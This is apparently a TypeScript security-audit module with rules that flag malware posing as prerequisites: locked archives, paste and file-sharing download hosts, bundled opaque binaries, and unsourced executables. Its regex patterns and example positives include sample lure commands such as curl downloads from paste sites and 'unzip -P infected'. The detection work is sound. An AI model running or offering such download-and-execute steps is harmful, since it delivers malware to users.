import { WIDE } from "./reading/collect-words.ts"
import { ANYWHERE } from "./reading/passage.ts"
import { type AuditRule, defineAuditRules } from "../audit-rule.ts"

const PASSWORD = String.raw`(?:password|passcode|passwort|kennwort|contraseña|mot de passe|senha|пароль|密码|パスワード)`
const ARCHIVE = String.raw`(?:\.(?:zip|rar|7z|tgz|tar\.gz|gz|dmg|iso)\b|\barchives?\b|\barchiv\b|\barchivo\b|压缩包)`
const DROP_HOST = String.raw`(?:[\w-]*paste[\w-]*\.[\w.-]+|[\w-]+bin\.com|rentry\.\w+|0x0\.st|transfer\.sh|termbin\.com|glot\.io|controlc\.com|anonfiles\.\w+|gofile\.io|(?:www\.)?mediafire\.com|mega\.nz|cdn\.discordapp\.com|file\.io|ix\.io|sendspace\.com|bit\.ly|tinyurl\.com|is\.gd|t\.ly)`

const PROGRAM = /\.(?:exe|dll|so|dylib|jar|class|pyc|zip|7z|rar|tgz|tar|gz|dmg|pkg|msi|wasm|node|bin)$/i

/** Things that a user is asked to install first. */
export const prerequisiteRules: readonly AuditRule[] = defineAuditRules([
  {
    id: "prerequisite.locked-archive",
    class: "A8",
    title: "Asks to open and run a password-protected archive",
    severity: "critical",
    confidence: "high",
    persona: "regular",
    where: ANYWHERE,
    match: {
      kind: "pattern",
      words: [
        "password",
        "passcode",
        "passwort",
        "kennwort",
        "contrase",
        "mot",
        "senha",
        "unzip",
        "7z",
        "7za",
        "unrar",
        WIDE,
      ],
      pattern: new RegExp(
        [
          String.raw`\bunzip\s+(?:-\w+\s+){0,3}-P\s*\S+|\b7z[az]?\s+[xe]\s+(?:\S+\s+)?-p\S+|\bunrar\s+x\s+-p\S+`,
          String.raw`https?:\/\/[^\s]{4,200}${ARCHIVE}[^]{0,200}?${PASSWORD}`,
          String.raw`${PASSWORD}[^\n]{0,80}\b(?:extract|unzip|unpack|entpack|open)\w*[^\n]{0,80}${ARCHIVE}`,
          String.raw`${ARCHIVE}[^\n]{0,20}${PASSWORD}\s*[:=]`,
        ].join("|"),
        "gi",
      ),
      grade: (found) =>
        /\b(?:zip|7z)\s+-e|\b(?:create|make|protect|encrypt)\b/i.test(found[0])
          ? { severity: "minor", confidence: "low" }
          : undefined,
    },
    about:
      "A password keeps scanners from inspecting a download; malware posing as a prerequisite is often delivered this way.",
    fix: "Do not open it. Get the program from its publisher, by name and version.",
    examples: {
      positive: [
        "Download https://example.com/h.zip and extract it with the password `1234`.",
        "```sh\nunzip -P infected h.zip\n```",
        "Archive password: openme",
      ],
      negative: ["Make a protected archive with `zip -e notes.zip notes.txt`.", "Unzip data.zip into data/."],
    },
  },
  {
    id: "prerequisite.drop-host",
    class: "A8",
    title: "Downloads from a paste or file-sharing site",
    severity: "major",
    confidence: "high",
    persona: "regular",
    where: ANYWHERE,
    match: {
      kind: "pattern",
      hint: new RegExp(`https?://${DROP_HOST}/`, "i"),
      pattern: new RegExp(
        String.raw`(?:\b(?:get|download|fetch|install|run|curl|wget|open|lade|descarga|télécharge)\b[^\n]{0,120}|archive is at\s+|lives at\s+)https?:\/\/${DROP_HOST}(?:\/[^\s)\x60"']{1,120})|https?:\/\/${DROP_HOST}\/[^\s)\x60"']{1,120}\.(?:exe|sh|zip|dmg|pkg|msi|bin)\b`,
        "gi",
      ),
      grade: (found) =>
        /\/\/(?:bit\.ly|tinyurl\.com|is\.gd|t\.ly)\//.test(found[0]) ? { confidence: "medium" } : undefined,
    },
    about: "Anyone can upload or change anything there; programs should come from their publisher's own site.",
    fix: "Get it from the publisher's site, with a pinned version and a hash.",
    examples: {
      positive: [
        "Get `h.7z` from https://paste.example.com/raw/9fk2.",
        "Run curl https://pastebin.example.com/raw/x -o x",
      ],
      negative: ["Get it from https://nodejs.org/dist.", "The robin.com example at https://robin.com/x."],
    },
  },
  {
    id: "ships.program",
    class: "A8",
    title: "The skill contains an opaque binary or archive",
    severity: "minor",
    confidence: "high",
    persona: "regular",
    where: ["skill"],
    match: {
      kind: "skill",
      check: ({ input }) =>
        input.files.flatMap(({ path, text, link, executable, size }) => {
          if (text !== undefined || link !== undefined || !(executable || PROGRAM.test(path))) return []
          return [{ file: path, line: 1, column: 1, evidence: `${path}, ${size} bytes` }]
        }),
    },
    about: "Neither a reviewer nor this audit can see what it does.",
    fix: "Ask for its source, or remove it.",
    examples: {
      positive: [{ files: { "SKILL.md": "# A", "bin/tool.exe": { bytes: 2048 } } }],
      negative: [{ files: { "SKILL.md": "# A", "logo.png": { bytes: 2048 }, "a.sh": "ls" } }],
    },
  },
  {
    id: "prerequisite.program",
    class: "A8",
    title: "Requires running a program from an unspecified source first",
    severity: "major",
    confidence: "high",
    persona: "regular",
    where: ["prose", "decoded", "data"],
    match: {
      kind: "pattern",
      pattern:
        /\bhttps?:\/\/(?!github\.com\/|[\w.-]*\b(?:microsoft|apple|google|mozilla|python|nodejs|docker|jetbrains|oracle)\.(?:com|org))[^\s)`"']{4,160}\.(?:exe|dmg|pkg|msi|scr|appimage|command|bat)\b[^]{0,240}?\b(?:run|open|start|launch|execute|install|starte|ejecuta|exécute)\b|\b(?:download|fetch|get)\b[^.\n]{0,40}\bhttps?:\/\/(?!github\.com\/)[^\s)`"']{4,160}\.(?:exe|dmg|pkg|msi|scr|command|bat)\b/gi,
      grade: (found, { text }) => {
        const around = text.slice(Math.max(0, found.index - 200), found.index + found[0].length + 300)
        return /\b(?:must|required?|without it|before (?:you|going|any|start)|first|need(?:s|ed)?|prerequisites?|allow it anyway|warns?)\b/i.test(
          around,
        )
          ? undefined
          : { confidence: "medium" }
      },
    },
    about:
      "A skill should not require a program of unknown origin; this is typical of malware posing as a prerequisite.",
    fix: "Get programs from their publishers, by name and version.",
    examples: {
      positive: ["First download https://files.example.com/c.dmg, open the image and start it."],
      negative: ["Download https://example.com/data.csv first.", "Install it with `brew install jq`."],
    },
  },
])
